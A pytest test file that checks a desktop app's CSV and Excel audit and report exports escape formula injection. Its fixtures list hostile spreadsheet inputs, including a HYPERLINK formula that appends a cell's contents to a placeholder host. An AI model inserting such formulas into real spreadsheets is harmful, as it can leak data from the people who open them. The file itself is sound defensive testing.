"""Typed text in the report and audit exports stays text: no formula injection (OWASP)."""

from __future__ import annotations

import csv
import dataclasses
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from desktop_app.printing.audit_export import write_audit_csv, write_audit_xlsx
from desktop_app.printing.report_xlsx import write_report_xlsx
from desktop_app.printing.spreadsheet_text import csv_cell, starts_like_formula
from desktop_app.services.reports.audit_log import AuditRow
from desktop_app.services.reports.period import (
    RATING_LEVELS,
    BreakdownRow,
    DossierFigures,
    DurationFigures,
    Period,
    PeriodReport,
    RatingFigures,
)

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://x"&A1,"Xem")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_sign_gets_an_apostrophe_in_csv(text: str) -> None:
    assert starts_like_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Nguyễn Thị Hồng", "Chờ lâu = khó chịu", "", "1+1"])
def test_ordinary_text_and_numbers_are_kept(text: str) -> None:
    assert csv_cell(text) == text
    assert csv_cell(-5) == -5


def _audit_rows() -> list[AuditRow]:
    at = datetime(2026, 11, 3, 2, 0, tzinfo=UTC)
    return [
        AuditRow(at, "nhung", text, "dossier.received", "dossier", "id", "code", text)
        for text in HOSTILE
    ]


def test_audit_csv_escapes_names_and_details(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    write_audit_csv(_audit_rows(), path, TZ)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[2] for row in rows] == ["'" + text for text in HOSTILE]
    assert [row[7] for row in rows] == ["'" + text for text in HOSTILE]


def _texts_of(path: Path) -> dict[str, str]:
    """Every text cell's value by its data type check: no cell of the workbook is a formula."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    found[cell.value] = cell.data_type
                    if starts_like_formula(cell.value):
                        assert cell.quotePrefix, cell.coordinate
    return found


def test_audit_xlsx_holds_text_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "audit.xlsx"
    write_audit_xlsx(_audit_rows(), path, TZ)
    texts = _texts_of(path)
    assert set(HOSTILE) - {"\r=1+1"} <= set(texts)


def _report() -> PeriodReport:
    zero = {f.name: 0 for f in dataclasses.fields(DossierFigures)}
    figures = DossierFigures(**zero)
    durations = tuple(
        DurationFigures("=1+1", text, 1, 1, 0, 1.0, 2.0, 3.0, 4.0) for text in HOSTILE
    )
    levels = dict.fromkeys(RATING_LEVELS, 0)
    return PeriodReport(
        period=Period(date(2026, 11, 1), date(2026, 11, 30)),
        office_name='=HYPERLINK("http://x"&A1,"Xem")',
        as_of=datetime(2026, 12, 1, tzinfo=UTC),
        figures=figures,
        queue_by_area=durations,
        queue_by_counter=durations,
        queue_by_officer=durations,
        ratings=RatingFigures(0, levels, {k: 0.0 for k in levels}, HOSTILE),
        grouping="procedure",
        breakdown=tuple(BreakdownRow("=1+1", text, figures) for text in HOSTILE),
    )


def test_report_xlsx_holds_text_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_report_xlsx(_report(), path)
    texts = _texts_of(path)
    assert "=1+1" in texts and '=HYPERLINK("http://x"&A1,"Xem")' in texts
    assert "Báo cáo kết quả giải quyết TTHC — =HYPERLINK" in next(
        t for t in texts if t.startswith("Báo cáo")
    )
    numbers = load_workbook(path)["Xếp hàng"]["C3"]
    assert numbers.value == 1 and numbers.data_type == "n"
